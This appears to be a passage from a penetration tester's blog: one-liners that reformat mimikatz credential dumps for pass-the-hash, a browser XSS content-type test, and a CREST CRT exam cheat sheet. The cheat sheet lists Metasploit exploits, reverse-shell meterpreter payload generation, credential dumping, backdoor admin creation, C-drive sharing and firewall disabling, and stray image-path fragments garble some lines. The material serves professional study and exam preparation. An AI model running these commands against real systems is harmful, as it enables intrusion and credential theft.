Parsing the example above you get thefollowing:

Hows it work?
  • I start by outputting all files in the current directory and removing carriage return characters as these seemed to break awk. I also remove tab characters to clean up the output.
  • Next up I used awk to effectively put the username, domain and password all on the same line. This makes greppping, cutting or more awking easier.
  • I used grep to remove lines I didn't care about. For example NTLM hashes and null passwords.
  • I then did a final awk to remove hex string passwords. I'm not sure how/why mimikatz generates this output, if anyone knows please leave a comment! :)
  • And finally I sorted and uniqued the list.

I modified the one-liner to also output just the usernames and passwords without the domain:
cat *|tr -d '\011\015' |awk '/Username/ { user=$0;getline; getline; print user " " $0}'|grep -v "*LM\|* NTLM\|Microsoft_OC1\|* Password : (null)"|awk '{if (length($8)>2) print $4 ":" $8}'|sort -u
And also output usernames and NTLM hashes ready for use with pth-winexe:
cat *|tr -d '\011\015' |awk '/Username/ { user=$0; getline; domain=$0; getline; print user " " domain " " $0}'|grep -v "* LM\|* Password\|Microsoft_OC1"|awk '{if (length($12)>2) print $8 "/" $4 "%aad3b435b51404eeaad3b435b51404ee:" $12}'|sort -u
If you want a different output format just modify the final print statement.

Final Thoughts

Mimikatz is such an awesome tool unfortunately the default output is not that user/grep friendly. Luckily with a simple one-liner we can easily work the output into something more useful. As mentioned in my smb-share enumeration post, don't be afraid to jump in and learn some grep/awk/sed, these tools can speed up data analysis massively!

Hopefully this post has been useful, if you have any suggestions for improvements or better ways to get usable output then leave a comment below.

Pwndizzle out.

Thursday 23 July 2015

XSS, Extensions and Content-Types

In this post I'll look at which Content-Types and Extensions can actually be used for XSS in modern browsers.

Why does Content-Type and Extension matter?Applications come in many different shapes and sizes and XSS can occur all over the place. It's easy to assume that just because an application returns you a response with unfiltered/unencoded output you've found an exploitable XSS issue but this is often not the case. Browsers render content based on a number of factors including content-type returned by the server, page content and page extension, without the correct combination XSS won't be possible.

To try and get a definitive answer of what works and what doesn't I thought I'd do some testing. I used multiple file types each containing their legitimate content however I also embedded a JavaScript alert payload in each. Each test case was ran against Chrome 43, IE 11 and Firefox 39. In the tables below "yes" means the payload rendered and "no"means it didn't.

Test #1 - Following Best PracticeIn the first test I forced the server to return the correct extension and content-type for each test page.

Extension Chrome IE Firefox
None None yes yes yes
text/plain txt no no no
text/html html yes yes yes
application/javascript js no no no
application/json json no no no
application/xml xml yes yes yes
text/css css no no no
image/jpeg jpeg no no no

Following best practice modern browsers appeared to be pretty secure. The one exception appears to be XML, it seems odd that the browser would allow the rendering of JavaScript in an XML file.

Test #2 - Modifying Extension

In the second test I made the server return the correct content-type but forced a .html extension.

Extension Chrome IE Firefox
None html yes yes yes
text/plain html no no no
text/html html yes yes yes
application/javascript html no yes no
application/json html no no no
application/xml html yes yes yes
text/css html no no no
image/jpeg html no no no

This test seemed to show that browsers will prioritize the use of the content-type over the extension.Test #3 - Using a text/html Content-Type

In the third test I used the correct extension for each file but made the server return a text/html content-type.

Extension Chrome IE Firefox
text/html None yes yes yes
text/html txt yes yes yes
text/html html yes yes yes
text/html js yes yes yes
text/html json yes yes yes
text/html xml yes yes yes
text/html css yes yes yes
text/html jpeg yes no yes

It looks like browsers rely heavily on the content-type returned by the server. It doesn't matter about the extension or contents of the file, the browser will blindly follow the content-type returned.

Test #4 - Using a text/plain Content-Type

Next I used the correct extension for each file but made the server return a text/plain content-type.

Extension Chrome IE Firefox
text/plain txt no no no
text/plain html no no no
text/plain js no no no
text/plain json no no no
text/plain xml no no notext/plain css no no no
text/plain jpeg no no no

When using a content-type of text/plain none of the payloads executed. I can't remember for sure, but I believe in the past text/plain used to allow XSS? Looks like this is nolonger possible.

Test #5 - MIME sniffing

In this last test case I accessed a page that had no extension and received no content-type header from the server. This should have caused the browser to fall back on mime sniffing to render the page.

Content-Type Extension Chrome IE Firefox
text/plain None None no yes no
text/html None None yes yes yes
application/javascriptNoneNone yes yes yes
application/json None None no yes no
application/xml None None no yes no
text/css None None no yes no
image/jpeg None None no no no

Both Chrome and Firefox refused to render pages that contained additional non-html content. IE however didn't seem to care what the page content was, if it contained HTML it rendered!


Performing application testing on a regularbasis I find content-type and extension XSS issues arise quite a lot. This test showed that modern browsers are relatively secure as long as the correct content-type is returned. All browsers also seemed to implement the same analysis techniques aside from IE which seemed slightly more permissive.

Hopefully you guys have found this post useful, if anyone has any suggestions for bypasses to achieve XSS in any of the above, or if I've listed any findings incorrectly (quite possible) drop me a message below :)

Pwndizzle out.

Thursday 30 April 2015

Wednesday 31 December 2014

CREST CRT Exam PreparationI'm going to be taking the CREST CRT exam in January and wanted to share my preparation notes with the world to save everyone else the time and effort of digging up this information to pass the exam.

Note: I have not taken the exam yet, I do not know the answers and am in no way affiliated with CREST.
Note Note: I passed the exam. Due to confidentiality reasons I can't provide any hints I will however leave this post up to assist future participants :)

What have we gota do?

First things first, the official CREST site and CRT page is here:

To quote the official documentation - "The Certification Examination has two components: a multiple choice written question section and a practical assessment which is also examined using multiple choice answers. The practical assessment tests candidates’ hands-on penetration testing methodology and skills against reference networks, hosts and applications."

For the "written question" section I'd recommend Wikipedia or some SANS/CEH material. For the practical side of things see below.

Getting hands-on!

My goal during the practical exam is to be as quick and efficient as possible. I want to minimize time spent analyzing results, configuring tools or writing custom stuff and maximize time spent answering questions! I plan to use a Windows box with Kali Linux VM. Below is my full list of tools and one-liners:


nmap -T4 -A -Pn -oA scan -v scan
for i in 21 22 23 80 443 445;do cat scan.gnmap|grep " $i/open"|cut -d " " -f2 > $i.txt;doneParse results into txt files per port
nmap -T4 -v -oA myshares --script smb-enum-shares --script-args smbuser=pwndizzle,smbpass=mypassword -p445 for open shares
dig axfr @ns1.example.comDNS zonetransfer (Linux)
tcp.port, tcp.srcport, ip.src, ip.dst, or, andWireshark syntax
tcpdump tcp port 80 -w output.pcap -i eth0Tcpdump syntax
mount /mnt/nfsMount an NFS share
mount -o nolock -t nfs -o proto=tcp,port=2049 /mntMount an NFS share
mount -t cifs -o username=<user>,password=<password>, //WIN_PC_IP/<share name> /mnt/windowsMount a Windows share
net use x: \\filesvr001\folder1 <password> /user:domain01\jsmith /savecred /p:noMount a Windows share
net use \\<target>\IPC$ "" /u:""Null session
rpcclient -U "" <target>Null session domain info
onesixtyone -c names -i snmphostsSNMP enum
snmpcheck -t -c publicSNMP enum
nslookup -> set type=any -> ls -d <domain>DNS zone transfer (Windows)
nmap --script=smb-check-vulns --script-args=unsafe=1 -p445 <host>SMB vuln scan


use auxiliary/scanner/http/dir_scannerScan for directories
use auxiliary/scanner/http/jboss_vulnscanJBoss scan
use exploit/multi/http/jboss_maindeployerJBoss deploy
use auxiliary/scanner/mssql/mssql_loginMSSQL cred scan
use exploit/windows/mssql/mssql_payloadMSSQL payload
use auxiliary/scanner/mysql/mysql_versionMySQL version scan
use auxiliary/scanner/mysql/mysql_loginMySQL login
use auxiliary/scanner/oracle/oracle_loginOracle loginuse exploit/windows/dcerpc/ms03_026_dcomeazymode
use exploit/windows/smb/ms06_040_netapieazymode
use exploit/windows/smb/ms08_067_netapieazymode
use exploit/windows/smb/ms09_050_smb2_negotiate_func_indexeazymode
run post/windows/gather/win_privsShow privs of current user
use exploit/windows/local/bypassuac (check if x86/64 and set target)Bypass uac on win7+
load mimikatz -> wdigestDump creds
load incongnito -> list_tokens -> impersonate_tokenUse tokens
use post/windows/gather/credentials/gppGPP
run post/windows/gather/local_admin_search_enumTest other machines
msfpayload windows/meterpreter/reverse_tcp LHOST= LPORT=4445 R | msfencode -t exe -e x86/shikata_ga_nai -c 5 > custom.exeStandalone meterpreter
use exploit/multi/script/web_deliveryPowershell payload delivery
post/windows/manage/powershell/exec_powershellUpload and run a PS script through a session
msfvenom -p windows/meterpreter/reverse_tcp LHOST=LPORT=4444 -a x86 -f exe -e x86/shikata_ga_nai -b '\x00' -i 3 > meter.exeGenerate standalone payload


ipconfig /all
Displays the full information about your NIC’s.
ipconfig /displaydns
Displays your local DNS cache.
netstat -nabo
Lists ports / connections with corresponding process (-b), don’t perform looking (-n), all connections (-a) and owning process ID (-o)
netstat -r
Displays the routing table

netstat -anob | findstr “services, process or port”
The “b” flag makes the command take longer but will output the process name using each of the connections.
netsh diag show all
{XP only} Shows information on network services and adapters
net view
Queries NBNS/SMB (SAMBA) and tries to find all hosts in your current workgroup or domain.
net view /domainList all domains available to the host
net view /domain:otherdomain
Queries NBNS/SMB (SAMBA) and tries to find all hosts in the ‘otherdomain’
net user %USERNAME% /domain
Pulls information on the current user, if they are a domain user. If you are a local user then you just drop the /domain. Important things to note are login times, last time changed password, logon scripts, and group membership
net user /domain
Lists all of the domain users
net accounts
Prints the password policy for the local system. This can be different and superseded by the domain policy.
net accounts /domain
Prints the password policy for the domain
net localgroup administrators
Prints the members of the Administrators local group
net localgroup administrators /domain
as this wassupposed to use localgroup & domain, this actually another way of getting *current* domain admins
net group “Domain Admins” /domain
Prints the members of the Domain Admins group
net group “Enterprise Admins” /domain
Prints the members of the Enterprise Admins group
net group “Domain Controllers” /domain
Prints the list of Domain Controllers for the current domain
net share
Displays your currently shared SMB entries, and what path(s) they point to
net session | find / “\\”

arp -a
Lists all the systems currently in the machine’s ARP table.
route print
Prints the machine’s routing table. This can be good for finding other networks and static routes that have been put in place
View the current user
tasklist /v
List processes
taskkill /F /IM "cmd.exe"
Kill a process by its name
net user hacker hacker /add
Creates a new local (to the victim) user called ‘hacker’ with the password of ‘hacker’
net localgroup administrators hacker /add
Adds the new user ‘hacker’ to the local administrators group
net share nothing$=C:\ /grant:hacker,FULL /unlimited
Shares the C drive (you can specify any drive) out as a Windows share and grants the user ‘hacker’ full rights to access, or modify anything on that drive.

One thing to note is that in newer (will have to look up exactly when, I believe since XP SP2) windows versions, share permissions and file permissions are separated. Since we added our selves as a local admin this isn’t a problem but it is something to keep in mind
net user username /active:yes /domainChanges an inactive / disabled account to active. This can useful for re-enabling old domain admins to use, but still puts up a red flag if those accounts are being watched.
netsh firewall set opmode disable
Disables the local windows firewall

wmic useraccount get name,sid     -  Retrieve name and sid from command line.


apt-get install finger rsh-client jxplorer sipcalcFinger not installed in Kali by default
apt-get install rsh-clientR-tools notinstalled in Kali by default
uname -aKernel version
cat /etc/<distro>-releaseRelease version
showrev -pRevision
rlogin -l <user> <target>rlogin
rsh <target> <command>rsh
find / -perm +6000 -type f -exec ls -ld {} \; > setuid.txt &Find setuid binaries
finger <username>@<ip>Retrieve user info
mysql -h <ip> -u <user> -p <password>Connect to mysql
